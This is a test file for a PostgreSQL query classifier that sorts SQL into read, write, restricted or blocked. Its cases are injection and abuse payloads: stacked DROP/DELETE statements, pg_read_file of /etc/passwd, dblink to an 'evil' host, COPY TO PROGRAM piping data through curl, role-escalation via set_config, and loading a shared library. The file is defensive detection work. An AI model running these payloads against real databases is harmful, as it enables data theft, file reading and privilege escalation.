import { test, before } from 'node:test';
import assert from 'node:assert/strict';
import { blockedReason, classifySql, loadSqlParser, SqlClassifier, type ClassifiedSql } from './index.js';

before(() => loadSqlParser());

interface Case {
  /** Attack class of docs/postgres-policy.md (POSTGRES.md numbering) or a plain shape. */
  what: string;
  sql: string;
  effect: string;
  /** Effects of each statement, in order, when the batch has more than one. */
  each?: string[];
  kind?: string;
  tables?: string[];
  functions?: string[];
  ops?: string[];
  reason?: RegExp;
}

const CASES: Case[] = [
  // 1. stacked statements, escapes, dollar quotes, nested comments
  { what: '1 stacked DROP after SELECT', sql: 'SELECT 1; DROP TABLE users', effect: 'ddl', each: ['read', 'ddl'] },
  { what: '1 escape string then DELETE', sql: "SELECT E'O\\'Brien'; DELETE FROM users", effect: 'write', each: ['read', 'write'] },
  { what: '1 standard string with doubled quote then DELETE', sql: "SELECT 'O''Brien'; DELETE FROM users", effect: 'write', each: ['read', 'write'] },
  { what: '1 dollar quote hides nothing', sql: 'SELECT $$; DROP TABLE users; $$', effect: 'read', tables: [] },
  { what: '1 tagged dollar quote then a real DROP', sql: 'SELECT $x$ $$ ; $x$; DROP TABLE users', effect: 'ddl', each: ['read', 'ddl'] },
  { what: '1 nested comment hides nothing', sql: 'SELECT /* /* nested */ DROP TABLE users; */ 1', effect: 'read' },
  { what: '1 nested comment closes early in naive scanners', sql: 'SELECT 1 /* a /* b */ c */; DELETE FROM users', effect: 'write', each: ['read', 'write'] },
  // 2. spelling tricks
  { what: '2 mixed case DROP DATABASE', sql: 'DrOp DaTaBaSe prod', effect: 'blocked', kind: 'drop_database', reason: /DROP DATABASE/ },
  { what: '2 comment between keywords', sql: 'DROP/**/DATABASE prod', effect: 'blocked', kind: 'drop_database' },
  { what: '2 comment inside a keyword does not parse', sql: 'DR/**/OP DATABASE prod', effect: 'blocked', reason: /does not parse/ },
  { what: '2 unicode-escaped identifier', sql: 'DELETE FROM U&"us\\0065rs"', effect: 'write', kind: 'delete', tables: ['users'] },
  { what: '2 unicode-escaped identifier with a custom escape', sql: 'SELECT * FROM U&"d!0061ta" UESCAPE \'!\'', effect: 'read', tables: ['data'] },
  { what: '2 quoted mixed-case ALTER USER', sql: 'ALTER USER "Alice" WITH SUPERUSER', effect: 'blocked', kind: 'alter_role' },
  { what: '2 ALTER ROLE RENAME', sql: 'ALTER ROLE a RENAME TO b', effect: 'blocked' },
  // 3. writes that look like reads
  { what: '3 deleting CTE', sql: 'WITH d AS (DELETE FROM cards RETURNING *) SELECT * FROM d', effect: 'write', kind: 'delete', tables: ['cards'], ops: ['select', 'delete'] },
  { what: '3 updating CTE in a subquery CTE', sql: 'WITH a AS (SELECT 1), b AS (UPDATE t SET x = 1 RETURNING x) SELECT * FROM a, b', effect: 'write', kind: 'update', tables: ['t'] },
  { what: '3 SELECT INTO creates a table', sql: 'SELECT * INTO copy_of_cards FROM cards', effect: 'ddl', kind: 'select_into', tables: ['copy_of_cards', 'cards'] },
  { what: '3 EXPLAIN ANALYZE executes a DELETE', sql: 'EXPLAIN ANALYZE DELETE FROM cards', effect: 'write', kind: 'delete' },
  { what: '3 EXPLAIN (ANALYZE) executes', sql: 'EXPLAIN (ANALYZE, BUFFERS) UPDATE cards SET number = null', effect: 'write' },
  { what: '3 EXPLAIN (ANALYZE true) executes', sql: 'EXPLAIN (ANALYZE true) DELETE FROM cards', effect: 'write' },
  { what: '3 EXPLAIN (ANALYZE false) only plans', sql: 'EXPLAIN (ANALYZE false) DELETE FROM cards', effect: 'read', kind: 'explain', tables: ['cards'] },
  { what: '3 EXPLAIN without ANALYZE only plans', sql: 'EXPLAIN DELETE FROM cards', effect: 'read' },
  { what: '3 EXPLAIN of a blocked function stays blocked', sql: 'EXPLAIN SELECT pg_read_file(\'/etc/passwd\')', effect: 'blocked' },
  { what: '3 COPY (DELETE … RETURNING) TO STDOUT', sql: 'COPY (DELETE FROM cards RETURNING *) TO STDOUT', effect: 'write', kind: 'delete', ops: ['copy_to', 'delete'] },
  { what: '3 SELECT … FOR UPDATE', sql: 'SELECT * FROM cards FOR UPDATE', effect: 'write', kind: 'select_for_update' },
  { what: '3 FOR SHARE in a subquery', sql: 'SELECT (SELECT 1 FROM cards FOR SHARE)', effect: 'write', kind: 'select_for_update' },
  { what: '3 LOCK TABLE', sql: 'LOCK TABLE cards IN ACCESS EXCLUSIVE MODE', effect: 'write', kind: 'lock', tables: ['cards'] },
  { what: '3 CREATE TABLE AS', sql: 'CREATE TABLE x AS SELECT * FROM cards', effect: 'ddl' },
  { what: '3 nextval in a select writes', sql: "SELECT nextval('s')", effect: 'write' },
  { what: '3 data-modifying INSERT … SELECT', sql: 'INSERT INTO a SELECT * FROM b', effect: 'write', kind: 'insert', tables: ['a', 'b'] },
  // 4. dangerous functions
  { what: '4 pg_read_file', sql: "SELECT pg_read_file('/etc/passwd')", effect: 'blocked', functions: ['pg_read_file'], reason: /reads a file/ },
  { what: '4 pg_read_binary_file schema-qualified in FROM', sql: "SELECT * FROM pg_catalog.pg_read_binary_file('/etc/passwd')", effect: 'blocked' },
  { what: '4 lo_export', sql: "SELECT lo_export(1234, '/tmp/x')", effect: 'blocked' },
  { what: '4 lo_import', sql: "SELECT lo_import('/etc/passwd')", effect: 'blocked' },
  { what: '4 dblink_exec', sql: "SELECT dblink_exec('host=evil', 'DROP TABLE t')", effect: 'blocked', reason: /dblink/ },
  { what: '4 dblink in a CTE', sql: "WITH r AS (SELECT * FROM dblink('x', 'select 1') AS t(a int)) SELECT * FROM r", effect: 'blocked' },
  { what: '4 pg_terminate_backend in a plain select', sql: 'SELECT pg_terminate_backend(pid) FROM pg_stat_activity', effect: 'blocked', kind: 'function:pg_terminate_backend' },
  { what: '4 pg_cancel_backend in a where clause', sql: 'SELECT 1 FROM pg_stat_activity WHERE pg_cancel_backend(pid)', effect: 'blocked' },
  { what: '4 pg_advisory_lock', sql: 'SELECT pg_advisory_lock(1)', effect: 'blocked' },
  { what: '4 pg_try_advisory_xact_lock', sql: 'SELECT pg_try_advisory_xact_lock(1)', effect: 'blocked' },
  { what: '4 blocked function in a column default', sql: "CREATE TABLE t (x text DEFAULT pg_read_file('/etc/passwd'))", effect: 'blocked' },
  { what: '4 blocked function in a view body', sql: "CREATE VIEW v AS SELECT pg_read_file('/etc/passwd')", effect: 'blocked' },
  { what: '4 pg_sleep(1e9)', sql: 'SELECT pg_sleep(1e9)', effect: 'restricted', reason: /holds the connection/ },
  { what: '4 query_to_xml runs SQL text', sql: "SELECT query_to_xml('select number from cards', true, false, '')", effect: 'restricted', reason: /SQL given as text/ },
  { what: '4 harmless function', sql: 'SELECT lower(name), count(*) FROM users GROUP BY 1', effect: 'read', functions: ['lower', 'count'] },
  // 5. COPY
  { what: '5 COPY TO PROGRAM', sql: "COPY cards TO PROGRAM 'curl -d @- evil'", effect: 'blocked', kind: 'copy_program' },
  { what: '5 COPY FROM PROGRAM', sql: "COPY cards FROM PROGRAM 'cat /etc/passwd'", effect: 'blocked', kind: 'copy_program' },
  { what: '5 COPY TO a file', sql: "COPY cards TO '/tmp/cards.csv'", effect: 'blocked', kind: 'copy_file' },
  { what: '5 COPY FROM a file', sql: "COPY cards FROM '/etc/passwd'", effect: 'blocked', kind: 'copy_file' },
  { what: '5 COPY (SELECT) TO STDOUT reads', sql: 'COPY (SELECT number FROM cards) TO STDOUT', effect: 'read', kind: 'copy_to', tables: ['cards'] },
  { what: '5 COPY FROM STDIN writes', sql: 'COPY cards FROM STDIN', effect: 'write', kind: 'copy_from' },
  // 7. privilege escalation
  { what: '7 SET ROLE', sql: 'SET ROLE postgres', effect: 'restricted', kind: 'set_role' },
  { what: '7 SET LOCAL ROLE', sql: 'SET LOCAL ROLE postgres', effect: 'restricted' },
  { what: '7 RESET ROLE', sql: 'RESET ROLE', effect: 'restricted' },
  { what: '7 SET SESSION AUTHORIZATION', sql: 'SET SESSION AUTHORIZATION postgres', effect: 'restricted', kind: 'set_session_authorization' },
  { what: '7 SET default_transaction_read_only', sql: 'SET default_transaction_read_only = off', effect: 'restricted' },
  { what: '7 SET SESSION CHARACTERISTICS', sql: 'SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE', effect: 'restricted' },
  { what: '7 SET search_path', sql: 'SET search_path = evil, public', effect: 'restricted' },
  { what: '7 set_config role', sql: "SELECT set_config('role', 'postgres', false)", effect: 'blocked', reason: /changes role/ },
  { what: '7 set_config upper-case name', sql: "SELECT set_config('Session_Authorization', 'postgres', false)", effect: 'blocked' },
  { what: '7 set_config search_path', sql: "SELECT set_config('search_path', 'evil', true)", effect: 'blocked' },
  { what: '7 set_config default_transaction_read_only', sql: "SELECT set_config('default_transaction_read_only', 'off', false)", effect: 'blocked' },
  { what: '7 set_config with a computed name', sql: "SELECT set_config(lower('ROLE'), 'postgres', false)", effect: 'blocked', reason: /not a string literal/ },
  { what: '1 SET standard_conforming_strings off changes how strings are read', sql: 'SET standard_conforming_strings = off', effect: 'restricted', reason: /backslashes/ },
  { what: '1 SET standard_conforming_strings on is harmless', sql: 'SET standard_conforming_strings = on', effect: 'session' },
  { what: '1 SET NAMES to a non-UTF8 encoding', sql: "SET NAMES 'SJIS'", effect: 'restricted', reason: /client encoding/ },
  { what: '1 SET client_encoding UTF8 is harmless', sql: "SET client_encoding TO 'UTF8'", effect: 'session' },
  { what: '1 RESET client_encoding goes back to the startup value', sql: 'RESET client_encoding', effect: 'session' },
  { what: '1 set_config standard_conforming_strings', sql: "SELECT set_config('standard_conforming_strings', 'off', false)", effect: 'blocked' },
  { what: '1 set_config client_encoding', sql: "SELECT set_config('client_encoding', 'SJIS', false)", effect: 'blocked' },
  { what: '7 set_config of a harmless setting', sql: "SELECT set_config('statement_timeout', '1s', false)", effect: 'read' },
  { what: '7 set_config with a named argument', sql: "SELECT set_config(setting_name => 'role', new_value => 'postgres', is_local => false)", effect: 'blocked', reason: /not a string literal/ },
  { what: '7 set_config with an escaped literal', sql: "SELECT set_config(E'r\\x6fle', 'postgres', false)", effect: 'blocked', reason: /changes role/ },
  { what: '7 set_config with a concatenated name', sql: "SELECT set_config('ro' || 'le', 'postgres', false)", effect: 'blocked' },
  { what: '2 unicode-escaped function name', sql: 'SELECT U&"pg_read_fil\\0065"(\'/etc/passwd\')', effect: 'blocked', functions: ['pg_read_file'] },
  { what: '2 quoted upper-case function name', sql: 'SELECT "PG_TERMINATE_BACKEND"(1)', effect: 'blocked' },
  { what: 'two-phase commit needs a rule', sql: "PREPARE TRANSACTION 'x'", effect: 'restricted', kind: 'two_phase_commit' },
  { what: 'COMMIT PREPARED needs a rule', sql: "COMMIT PREPARED 'x'", effect: 'restricted' },
  { what: 'BEGIN READ WRITE is transaction control', sql: 'BEGIN READ WRITE', effect: 'transaction' },
  { what: '7 GRANT role membership', sql: 'GRANT pg_read_server_files TO alice', effect: 'blocked', kind: 'grant_role' },
  { what: '7 CREATE USER', sql: "CREATE USER x PASSWORD 'y'", effect: 'blocked' },
  { what: '7 DROP ROLE', sql: 'DROP ROLE x', effect: 'blocked' },
  { what: '7 ALTER SYSTEM', sql: "ALTER SYSTEM SET log_statement = 'none'", effect: 'blocked' },
  { what: '7 CREATE EXTENSION', sql: 'CREATE EXTENSION dblink', effect: 'blocked' },
  { what: '7 LOAD', sql: "LOAD '/tmp/evil.so'", effect: 'blocked' },
  // 11. driver shapes that are SQL
  { what: '11 MERGE … WHEN MATCHED THEN DELETE', sql: 'MERGE INTO cards c USING gone g ON c.id = g.id WHEN MATCHED THEN DELETE', effect: 'write', kind: 'merge', ops: ['merge', 'delete'], tables: ['cards', 'gone'] },
  { what: '11 MERGE in a CTE', sql: 'WITH m AS (MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE RETURNING t.id) SELECT * FROM m', effect: 'write' },
  // explicit-rule statements
  { what: 'DO block', sql: "DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$", effect: 'restricted', kind: 'do' },
  { what: 'CALL', sql: 'CALL refresh_stats(1)', effect: 'restricted', kind: 'call', functions: ['refresh_stats'] },
  { what: 'PREPARE of a DELETE', sql: 'PREPARE p AS DELETE FROM cards', effect: 'restricted', kind: 'prepare', tables: ['cards'] },
  { what: 'EXECUTE', sql: 'EXECUTE p(1)', effect: 'restricted', kind: 'execute' },
  { what: 'PREPARE of a blocked function is blocked', sql: "PREPARE p AS SELECT pg_read_file('/x')", effect: 'blocked' },
  // plain shapes
  { what: 'pgbench select', sql: 'SELECT abalance FROM pgbench_accounts WHERE aid = 42;', effect: 'read', kind: 'select', tables: ['pgbench_accounts'] },
  { what: 'schema-qualified read', sql: 'SELECT * FROM public.cards c JOIN s.t ON true', effect: 'read', tables: ['public.cards', 's.t'] },
  { what: 'transaction control', sql: 'BEGIN; COMMIT', effect: 'transaction', each: ['transaction', 'transaction'] },
  { what: 'harmless SET', sql: "SET statement_timeout = '5s'", effect: 'session' },
  { what: 'SET TRANSACTION', sql: 'SET TRANSACTION ISOLATION LEVEL SERIALIZABLE', effect: 'transaction' },
  { what: 'SHOW', sql: 'SHOW server_version', effect: 'read' },
  { what: 'UPDATE', sql: 'UPDATE cards SET owner = $1 WHERE id = $2', effect: 'write', kind: 'update', tables: ['cards'] },
  { what: 'CREATE TABLE', sql: 'CREATE TABLE x (id int)', effect: 'ddl', kind: 'create', tables: ['x'] },
  { what: 'ALTER TABLE', sql: 'ALTER TABLE cards ADD COLUMN y int', effect: 'ddl', tables: ['cards'] },
  { what: 'TRUNCATE', sql: 'TRUNCATE cards', effect: 'write', kind: 'truncate' },
  { what: 'VACUUM', sql: 'VACUUM cards', effect: 'admin' },
  { what: 'GRANT SELECT', sql: 'GRANT SELECT ON cards TO bob', effect: 'admin' },
  { what: 'CREATE DATABASE', sql: 'CREATE DATABASE x', effect: 'admin' },
  { what: 'empty query', sql: '  ', effect: 'read', each: [] },
  { what: 'comment only', sql: '-- nothing', effect: 'read', each: [] },
  { what: 'unparseable', sql: 'SELECT * FROM', effect: 'blocked', reason: /does not parse/ },
  { what: 'a NUL byte would cut what the parser sees', sql: 'SELECT 1\u0000; DROP DATABASE x', effect: 'blocked', reason: /NUL byte/ },
];

for (const c of CASES) {
  test(`classify: ${c.what}`, () => {
    const r = classifySql(c.sql);
    assert.equal(r.effect, c.effect, `${c.sql} → ${JSON.stringify(r.statements)}`);
    if (c.each) assert.deepEqual(r.statements.map((s) => s.effect), c.each);
    const s = r.statements.reduce<ClassifiedSql['statements'][number] | undefined>((best, x) => (!best || x.effect === r.effect ? x : best), undefined);
    if (c.kind) assert.equal(s?.kind, c.kind);
    if (c.tables) assert.deepEqual([...(s?.tables ?? [])].sort(), [...c.tables].sort());
    if (c.functions) assert.deepEqual(s?.functions, c.functions);
    if (c.ops) assert.deepEqual(s?.operations, c.ops);
    if (c.reason) assert.match(blockedReason(r) ?? s?.reason ?? '', c.reason);
    if (r.effect === 'blocked') assert.ok(blockedReason(r), 'a blocked text says why');
    else assert.equal(blockedReason(r), null);
  });
}

test('classify: each statement of a batch carries its own text', () => {
  const r = classifySql("SELECT 'é'; /* c */ DELETE FROM t WHERE x = 'ü' ;SELECT 3");
  assert.deepEqual(r.statements.map((s) => s.text), ["SELECT 'é'", "DELETE FROM t WHERE x = 'ü'", 'SELECT 3']);
});

test('classify: a 100k-element IN list is refused by size before the parser sees it, quickly', () => {
  const sql = `SELECT * FROM t WHERE id IN (${Array.from({ length: 100_000 }, (_, i) => i).join(',')})`;
  const t0 = performance.now();
  const r = classifySql(sql);
  const ms = performance.now() - t0;
  assert.equal(r.effect, 'blocked');
  assert.equal(r.refused?.code, 'too_large');
  assert.match(r.refused!.reason, /588[0-9]{3} bytes, more than the 65536 bytes.*postgres\.statements\.max_statement_bytes/);
  assert.ok(ms < 50, `refusal took ${ms} ms`);
});

test('classify: a text just under the limit is parsed; the limit is configurable', () => {
  const list = Array.from({ length: 5000 }, (_, i) => i).join(',');
  const sql = `SELECT * FROM t WHERE id IN (${list})`;
  assert.equal(classifySql(sql).effect, 'read');
  assert.equal(classifySql(sql, { maxBytes: 1000 }).refused?.code, 'too_large');
});

test('classify: deeply nested parentheses are refused by the parser, not by a crash', () => {
  const r = classifySql(`SELECT ${'('.repeat(20_000)}1${')'.repeat(20_000)}`);
  assert.equal(r.effect, 'blocked');
  assert.equal(r.refused?.code, 'syntax');
  // A depth the parser accepts is walked without recursion.
  const ok = classifySql(`SELECT ${'('.repeat(900)}1${')'.repeat(900)}`);
  assert.equal(ok.effect, 'read');
});

test('SqlClassifier: a repeated exact text is served from the cache; another text is not', () => {
  // Texts without integer constants: those are served by their shape (sql/shape.ts).
  const k = new SqlClassifier({ cacheEntries: 2 });
  const a = k.classify('SELECT a FROM t');
  assert.equal(k.classify('SELECT a FROM t'), a);
  assert.equal(k.cache.hits, 1);
  k.classify('select a from t');
  assert.equal(k.cache.misses, 2, 'case differs: a different text');
  k.classify("SELECT 'two'");
  assert.equal(k.cache.size, 2, 'bounded by entries');
  k.classify('SELECT a FROM t');
  assert.equal(k.cache.misses, 4, 'the oldest entry was evicted');
});

test('SqlClassifier: the cache is bounded by the total size of its texts', () => {
  const k = new SqlClassifier({ cacheChars: 100 });
  for (let i = 0; i < 20; i++) k.classify(`SELECT ${i} /* ${'x'.repeat(20)} */`);
  assert.ok(k.cache.size <= 3, `size ${k.cache.size}`);
  k.classify(`SELECT '${'y'.repeat(200)}'`);
  assert.ok(k.cache.size <= 3, 'a text larger than the whole cache is not kept');
});

test('classify: mutated attack texts never throw; every outcome is an effect, a refusal says why', async () => {
  const { prng } = await import('../../../core/prng.js');
  const { SQL_EFFECTS } = await import('./effects.js');
  const rand = prng(12);
  const seeds = CASES.map((c) => c.sql);
  const alphabet = ";'\"$/*-\\()eE\u0000\u00e9\ud83d\ude00 \nU&0";
  for (let i = 0; i < 3000; i++) {
    let s = seeds[Math.floor(rand() * seeds.length)]!;
    for (let k = 1 + Math.floor(rand() * 3); k > 0; k--) {
      const at = Math.floor(rand() * (s.length + 1));
      const op = rand();
      if (op < 0.4) s = s.slice(0, at) + alphabet[Math.floor(rand() * alphabet.length)] + s.slice(at);
      else if (op < 0.7) s = s.slice(0, at) + s.slice(at + 1 + Math.floor(rand() * 4));
      else s = s.slice(0, at) + s.slice(Math.floor(rand() * s.length));
    }
    const r = classifySql(s);
    assert.ok((SQL_EFFECTS as readonly string[]).includes(r.effect), s);
    for (const st of r.statements) assert.ok((SQL_EFFECTS as readonly string[]).includes(st.effect), s);
    if (r.effect === 'blocked') assert.ok(blockedReason(r), s);
  }
});

test('classify: COPY HEADER read as PostgreSQL reads it (0, false and off are no header)', () => {
  const header = (opt: string) => classifySql(`COPY t TO STDOUT WITH (FORMAT csv${opt})`).statements[0]?.copy?.header;
  for (const opt of [', HEADER', ', HEADER 1', ', HEADER true', ', HEADER on', ', HEADER match']) assert.equal(header(opt), true, opt);
  for (const opt of ['', ', HEADER 0', ', HEADER false', ', HEADER off', ", HEADER '0'"]) assert.equal(header(opt), false, opt);
});
